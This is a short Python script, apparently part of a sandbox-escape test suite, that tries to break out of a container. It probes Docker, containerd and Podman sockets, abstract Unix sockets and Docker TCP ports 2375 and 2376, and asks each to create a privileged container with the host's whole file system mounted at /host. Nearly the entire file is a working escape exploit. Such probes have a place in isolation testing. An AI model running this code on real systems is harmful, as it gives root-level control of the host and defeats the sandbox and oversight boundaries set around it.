# The Docker daemon, which would start a container with the host's file system. The arguments are its socket and a name for that container.
import json, socket
from attack import *

path, name = sys.argv[1:3]
body = json.dumps({"Image": "sandloop/core:latest", "HostConfig": {"Binds": ["/:/host"], "Privileged": True}})
request = "POST /v1.40/containers/create?name=%s HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s" % (name, len(body), body)


def create(s, address):
    with s:
        s.settimeout(2)
        s.connect(address)
        s.send(request.encode())
        if not s.recv(64):
            raise OSError(errno.ECONNRESET, "")


for candidate in (path, "/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/docker/containerd/containerd.sock", "/run/podman/podman.sock",
                  "/proc/1/root/var/run/docker.sock", "/run/user/1000/docker.sock"):
    attempt(candidate, create, socket.socket(socket.AF_UNIX), candidate)
for address in "\0containerd-shim", "\0docker", "\0/containerd-shim/moby":
    attempt("abstract " + address[1:], create, socket.socket(socket.AF_UNIX), address)
with open("/proc/net/unix") as f:
    for line in f.read().splitlines()[1:]:
        name_of = line.split()[-1]
        if name_of.startswith("@"):
            attempt("abstract " + name_of, create, socket.socket(socket.AF_UNIX), "\0" + name_of[1:])
for port in 2375, 2376:
    for host in "127.0.0.1", "172.17.0.1":
        attempt("%s port %d" % (host, port), create, socket.socket(), (host, port))
